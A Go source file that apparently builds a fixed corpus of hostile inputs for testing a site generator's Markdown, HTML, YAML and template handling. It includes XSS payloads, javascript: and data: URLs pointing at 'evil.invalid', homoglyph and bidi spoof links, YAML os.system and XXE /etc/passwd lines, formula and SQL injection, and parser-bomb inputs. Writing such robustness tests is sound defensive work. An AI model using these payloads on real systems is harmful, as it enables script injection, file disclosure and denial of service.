package build

import (
	"fmt"
	"html"
	"strings"
)

// A hostile is a text that would act if a page took it for more than a text.
// What acts calls hit(), which no page defines, or leads to hostileHost, which
// no page asks for anything.
type hostile struct {
	name, text string
	big        bool // heavy: given to a body, not to every field
}

const hostileHost = "evil.invalid"

// hostiles answers the corpus, always the same.
func hostiles() []hostile {
	var out []hostile
	add := func(group string, texts ...string) {
		for i, t := range texts {
			t = strings.NewReplacer("HIT", "hit(1)", "EVIL", "https://"+hostileHost).Replace(t)
			out = append(out, hostile{name: fmt.Sprintf("%s-%02d", group, i), text: t})
		}
	}
	add("script", scripts...)
	add("event", events()...)
	add("address", addresses()...)
	add("style", styles...)
	add("foreign", foreign...)
	add("entity", entities...)
	add("open", unclosed...)
	add("template", templates...)
	add("bidi", bidis...)
	add("host", hosts...)
	add("yaml", yamls...)
	add("control", controls...)
	return append(out, heavy()...)
}

var scripts = []string{
	`<script>HIT</script>`, `<SCRIPT>HIT</SCRIPT>`, `<script src="EVIL/x.js"></script>`, `<script src=//` + hostileHost + `/x.js></script>`,
	`<script type="module">HIT</script>`, `<scr<script>ipt>HIT</scr</script>ipt>`, `<script/x>HIT</script>`, `<script
>HIT</script
>`, `</title><script>HIT</script>`, `</textarea><script>HIT</script>`, `</script><script>HIT</script>`, `"><script>HIT</script>`,
	`'><script>HIT</script>`, `--><script>HIT</script>`, `]]><script>HIT</script>`, `</style><script>HIT</script>`,
	`</noscript><script>HIT</script>`, `<script>/*`, `*/HIT//</script>`, `<!--<script>HIT</script>-->`, `<![CDATA[<script>HIT</script>]]>`,
	`<noscript><p title="</noscript><script>HIT</script>">`, `<template><script>HIT</script></template>`,
	`<iframe srcdoc="<script>parent.HIT</script>"></iframe>`, `<object data="data:text/html,<script>HIT</script>"></object>`,
	`<embed src="data:text/html,<script>HIT</script>">`, `<base href="EVIL/"><script src="x.js"></script>`,
	`<meta http-equiv="refresh" content="0;url=EVIL/">`, `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
	`<link rel="import" href="EVIL/">`, `<link rel="preload" as="script" href="EVIL/x.js">`, `<form action="EVIL/"><input name=q><button>بحث</button></form>`,
	`<noembed><script>HIT</script></noembed>`, `<xmp><script>HIT</script></xmp>`, `<plaintext><script>HIT</script>`,
	"`<script>HIT</script>`", "```html\n<script>HIT</script>\n```", `\<script>HIT\</script>`, `<?php HIT ?>`, `<%= HIT %>`,
}

// events answers elements that run a script by themselves.
func events() []string {
	var out []string
	for _, e := range []struct{ tag, attributes string }{
		{"img", "src=x onerror"}, {"svg", "onload"}, {"body", "onload"}, {"details", "open ontoggle"}, {"video", "src=x onerror"},
		{"audio", "src=x onerror"}, {"input", "autofocus onfocus"}, {"select", "autofocus onfocus"}, {"textarea", "autofocus onfocus"},
		{"iframe", "onload"}, {"object", "data=x onerror"}, {"marquee", "onstart"}, {"style", "onload"}, {"link", "rel=stylesheet href=x onerror"},
		{"p", "onmouseover"}, {"a", "href=# autofocus onfocus"}, {"div", "style=animation:x onanimationstart"}, {"math", "onclick"},
		{"button", "autofocus onfocus"}, {"video", "onloadstart src=x"}, {"frameset", "onload"}, {"x", "tabindex=1 autofocus onfocus"},
	} {
		out = append(out, fmt.Sprintf("<%s %s=HIT>", e.tag, e.attributes), fmt.Sprintf(`"><%s %s="HIT">نص</%s>`, e.tag, e.attributes, e.tag))
	}
	return append(out,
		`" onmouseover="HIT" x="`, `' onfocus='HIT' autofocus='`, `x onerror=HIT`, "` onerror=`HIT`", `<img src="x" onerror
=HIT>`, `<img/src=x/onerror=HIT>`, `<img src=x onerror="&#104;it(1)">`, `![x" onerror="HIT](x)`, `![x](x"onerror="HIT)`,
		`[x](# "onmouseover=HIT")`, `[x](#' onclick='HIT)`, `<https://x" onclick="HIT>`, `<img src=x:alert onerror=eval(src)>`,
	)
}

// addresses answers links that would act when they are followed.
func addresses() []string {
	acting := []string{
		"javascript:HIT", "JaVaScRiPt:HIT", "java\tscript:HIT", "java\nscript:HIT", " javascript:HIT", "\x01javascript:HIT", "javascript&colon;HIT",
		"&#106;avascript:HIT", "&#x6A;&#x61;vascript:HIT", "javascript&#58;HIT", "java&Tab;script:HIT", "java&NewLine;script:HIT", "javascript://%0AHIT",
		"jav%61script:HIT", "vbscript:HIT", "data:text/html,<script>HIT</script>", "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=",
		"data:image/svg+xml,<svg onload=HIT>", "data:application/xhtml+xml,<x/>", "file:///etc/passwd", "blob:EVIL/x", "filesystem:EVIL/x",
		"about:blank", "view-source:EVIL/", "//" + hostileHost + "/x", `\\` + hostileHost + `\x`, "/\\" + hostileHost, "https:" + hostileHost, "intent://x#Intent;end",
	}
	var out []string
	for i, a := range acting {
		switch i % 3 {
		case 0:
			out = append(out, "[اضغط هنا]("+a+")", `<a href="`+a+`">اضغط</a>`)
		case 1:
			out = append(out, "<"+a+">", "[اضغط][x]\n\n[x]: "+a)
		default:
			out = append(out, "![صورة]("+a+")", `<a href=`+a+`>اضغط</a>`)
		}
		out = append(out, a)
	}
	return append(out, `<area href="javascript:HIT">`, `<form action="javascript:HIT"><input type=submit></form>`, `<button formaction="javascript:HIT">x</button>`,
		`<iframe src="javascript:HIT"></iframe>`, `<a ping="EVIL/" href="x">x</a>`, `<img srcset="EVIL/a.png 1x">`, `<video poster="EVIL/x.png">`, `<q cite="javascript:HIT">x</q>`,
		`[x](<javascript:HIT>)`, `[x](javascript:HIT "t")`, `[![x](javascript:HIT)](javascript:HIT)`, `[a]: data:text/html,x "t"`, `[x]( java script:HIT )`)
}

var styles = []string{
	`<style>*{display:none}</style>`, `<style>@import url(EVIL/x.css);</style>`, `<p style="position:fixed;inset:0;background:url(EVIL/x.png)">نص</p>`,
	`" style="position:fixed;inset:0" x="`, `<div style="background:url(javascript:HIT)">`, `<div style="width:expression(HIT)">`,
	`<link rel="stylesheet" href="EVIL/x.css">`, `</style><style>body{background:url(EVIL/x.png)}</style>`, `<style>@font-face{font-family:x;src:url(EVIL/x.woff)}</style>`,
	`<style>input[value^=a]{background:url(EVIL/a)}</style>`, `<p style=-moz-binding:url(EVIL/x.xml#x)>`, `<table background="EVIL/x.png">`, `<body bgcolor=red text=red>`,
	`{{< x >}} <style>`, `<font color=red size=99>نص`,
}

var foreign = []string{
	`<svg><script>HIT</script></svg>`, `<svg><a xlink:href="javascript:HIT"><text>x</text></a></svg>`, `<svg><animate onbegin=HIT attributeName=x dur=1s>`,
	`<svg><set attributeName=onmouseover to=HIT>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=HIT>#x"/></svg>`, `<svg><foreignObject><script>HIT</script></foreignObject></svg>`,
	`<svg><image href="EVIL/x.png" onerror=HIT>`, `<svg><style>*{fill:url(EVIL/x)}</style></svg>`, `<svg><![CDATA[</svg><script>HIT</script>]]>`,
	`<math><a xlink:href="javascript:HIT">x</a></math>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=HIT&gt;">`,
	`<svg></p><style><a id="</style><img src=x onerror=HIT>">`, `<math href="javascript:HIT">x</math>`, `<?xml-stylesheet href="javascript:HIT"?>`, `<svg:script xmlns:svg="http://www.w3.org/2000/svg">HIT</svg:script>`,
	`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
}

var entities = []string{
	`&lt;script&gt;HIT&lt;/script&gt;`, `&#60;script&#62;HIT&#60;/script&#62;`, `&#x3c;script&#x3e;HIT&#x3c;/script&#x3e;`, `&amp;lt;script&amp;gt;HIT`,
	`&#0;&#55296;&#1114112;&#x1F;`, `&quot; onmouseover=&quot;HIT`, `&apos;&#39;&#34;`, `&lt`, `&#`, `&#x`, `&nosuch;`, `\u003cscript\u003eHIT\u003c/script\u003e`, `%3Cscript%3EHIT%3C/script%3E`,
	`+ADw-script+AD4-HIT+ADw-/script+AD4-`, `＜script＞HIT＜/script＞`, `‹script›HIT‹/script›`,
}

var unclosed = []string{
	`<`, `<a`, `<a href="`, `<a href='x`, `<!--`, `<!-- نص`, `<![CDATA[`, `<title>`, `<textarea>`, `<select><option>`, `<table><tr><td>`, `</body></html>`, `</div></div></div></main></body>`,
	`<div><p><b><i>`, `</p></p></bdi></bdi>`, `<iframe>`, `<noframes>`, `<style>`, `<script>`, `<svg><math>`, `<button><a href=x>`, `<form><form>`, `*a **b _c __d`, "```", "~~~~", `[x](`, `[x](<`, `![`, `|a|b|`, `<bdo dir=rtl>نص`,
}

var templates = []string{
	`{{.}}`, `{{template "layout" .}}`, `{{define "main"}}HIT{{end}}`, `{{printf "%s" .Site}}`, `{{"\x3cscript>"}}`, `{{/*`, `*/}}`, `{{`, `}}`, `{% include "x" %}`, `${HIT}`, `#{HIT}`, `{{constructor.constructor('HIT')()}}`,
	`<%= 7*7 %>`, `[[x]]`, `{0} {1} {n} {99}`, `%s%s%s%n%d`, `$(touch x)`, "`touch x`", `'; DROP TABLE articles; --`, `=HYPERLINK("EVIL","x")`, `@SUM(1+1)*cmd|' /C calc'!A0`, `\input{/etc/passwd}`, `}, title = {x`, "TY  - JOUR\r\nER  - ",
}

var bidis = []string{
	"access \u202eتكلم\u202c end", "\u202d\u202e\u202a\u202b", "\u2066\u2067\u2068\u2069", "a\u2067b\u2066c", "/*\u202e } \u2066if (x)\u2069 \u2066 begin */", "txt.\u202eexe", "\u200f\u200e\u061c نص",
	"&#x202e;عكس", "&#8238;عكس&#8236;", "&rlm;&lrm;&zwj;&zwnj;", "[x](\u202ehttps://" + hostileHost + ")", "\u2069\u2069\u2069 خارج العزل", "\u202e" + hostileHost + "\u202c",
}

var hosts = []string{
	"https://аpple.com/", "https://xn--pple-43d.com/", "https://exаmple.org/", "https://example.org@" + hostileHost + "/", "https://example.org%2F@" + hostileHost + "/", "https://" + hostileHost + "#@example.org/",
	"https://ехаmрlе.org/x", "https://example。org/", "https://exam\u200bple.org/", "https://example.org\u202e/moc", "https://１２７.0.0.1/", "https://[::1]/", "https://user:secret@example.org/", "http://2130706433/", "https://ɢoogle.com/",
	"[bank.example](https://" + hostileHost + "/)", "<https://аррӏе.com/>", "https://وزارة.مصر/", "https://example.org:99999/", "https://exa mple.org/", "https:///x",
}

var yamls = []string{
	"&a [*a]", "*nosuch", "!!binary SGVsbG8=", "!!python/object/apply:os.system [id]", "!<tag:x> y", "? complex\n: key", "<<: *x", "|\n  title: x", "- - - - - x", "{a: {b: {c: [", "'unclosed", "\"unclosed \\", "\"\\x00\\u0001\\ud800\"", "---\n...\n---", "\ttab", "@x", "`x`", "%YAML 9.9", "#", ": :", "0x10", "1e999", "2024-99-99", ".inf", "~", "yes", "\"\\u202e\\u202d\"", "\"\\n\\n---\\n\\n\"",
}

var controls = []string{
	"a\x00b", "\x1b[31mأحمر\x1b[0m", "\x08\x08\x08", "\r\n\r\nSet-Cookie: x=1", "\ufeff\ufeff", "\ufffe\uffff", "a\u2028b\u2029c", "\xff\xfe\x00", "\xc0\xaf\xc0\xae", "\U000e0041\U000e0042", "Z\u0335\u0321\u0322a\u0489\u0334l", strings.Repeat("\u064b", 300), "../../../etc/passwd", `..\..\windows`, "/etc/passwd", "C:\\x", "con", "index", "page-2", "404", ".git/config", "-rf", "*", "a/b/../../c", "?x=1&y=2#z",
}

// heavy answers texts that are costly to take apart.
func heavy() []hostile {
	const n = 100_000
	bomb := "a0: &a0 [x, x, x, x, x, x, x, x, x]\n"
	for i := 1; i < 12; i++ {
		bomb += fmt.Sprintf("a%d: &a%d [%s]\n", i, i, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*a%d, ", i-1), 9), ", "))
	}
	tags := strings.Builder{}
	for i := range 10_000 {
		fmt.Fprintf(&tags, "tag-%d, ", i)
	}
	var out []hostile
	for name, text := range map[string]string{
		"brackets": strings.Repeat("[", n), "brackets-closed": strings.Repeat("[", n/2) + strings.Repeat("]", n/2), "links": strings.Repeat("[a](", n/4), "images": strings.Repeat("![", n/2),
		"stars": strings.Repeat("*", n), "stars-a": strings.Repeat("*a ", n/3), "stars-nested": strings.Repeat("*a **b ", n/7), "underscores": strings.Repeat("_a", n/2), "ticks": strings.Repeat("`a", n/2), "ticks-growing": growing("`", 400),
		"quotes": strings.Repeat("> ", 5000) + "نص", "quotes-lines": strings.Repeat(">>>>>>>>>> نص\n", 3000), "lists": strings.Repeat("- ", 5000) + "نص", "lists-lines": nested("- نص", 500), "autolinks": strings.Repeat("<a:", n/3), "references": strings.Repeat("[a]: x\n", n/7),
		"tables": "|" + strings.Repeat("a|", 2000) + "\n|" + strings.Repeat("-|", 2000) + "\n" + strings.Repeat("|a\n", 2000), "entities": strings.Repeat("&", n), "backslashes": strings.Repeat("\\", n), "comments": strings.Repeat("<!--", n/4), "tags-open": strings.Repeat("<div>", n/5), "tags-inline": strings.Repeat("<b><i>", n/6) + "نص",
		"attributes": "<p " + strings.Repeat("a=b ", n/4) + ">نص</p>", "tags-unfinished": strings.Repeat("<a ", n/3), "tables-nested": strings.Repeat("<table><tr><td>", 3000), "svg-nested": strings.Repeat("<svg>", 5000),
		"spaces": strings.Repeat(" ", n) + "x", "lines": strings.Repeat("\n", n) + "x", "one-word": strings.Repeat("ا", n), "marks": "ا" + strings.Repeat("\u064e\u0651", n/4), "digits": strings.Repeat("9", n), "dates": strings.Repeat("1/1/2020 ", n/9), "weekdays": strings.Repeat("الخميس 4 يونيو ", n/26),
		"yaml-bomb": bomb + "title: *a11", "yaml-deep": "title: " + strings.Repeat("[", 20_000), "yaml-maps": "title: " + strings.Repeat("{a: ", 20_000), "yaml-many-keys": manyKeys(20_000), "yaml-huge": "title: \"" + strings.Repeat("ع ", 500_000) + "\"", "yaml-tags": "tags: [" + tags.String() + "x]", "yaml-anchors": strings.Repeat("a: &a *a\n", 5000), "yaml-indent": deepKeys(500),
		"headings": strings.Repeat("# ع\n\n", 5000), "rules": strings.Repeat("---\n", 20_000), "json": `<script type="application/ld+json">` + strings.Repeat("[", 50_000) + `</script>`,
	} {
		out = append(out, hostile{name: "heavy-" + name, text: text, big: true})
	}
	sortHostiles(out)
	return out
}

func growing(s string, n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(strings.Repeat(s, i) + " ")
	}
	return b.String()
}

func nested(item string, n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(strings.Repeat("  ", i) + item + "\n")
	}
	return b.String()
}

func manyKeys(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "k%d: v\n", i)
	}
	return b.String()
}

func deepKeys(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "%sk:\n", strings.Repeat(" ", i))
	}
	return b.String()
}

// escaped is a text as HTML that shows it.
func escaped(s string) string { return html.EscapeString(s) }
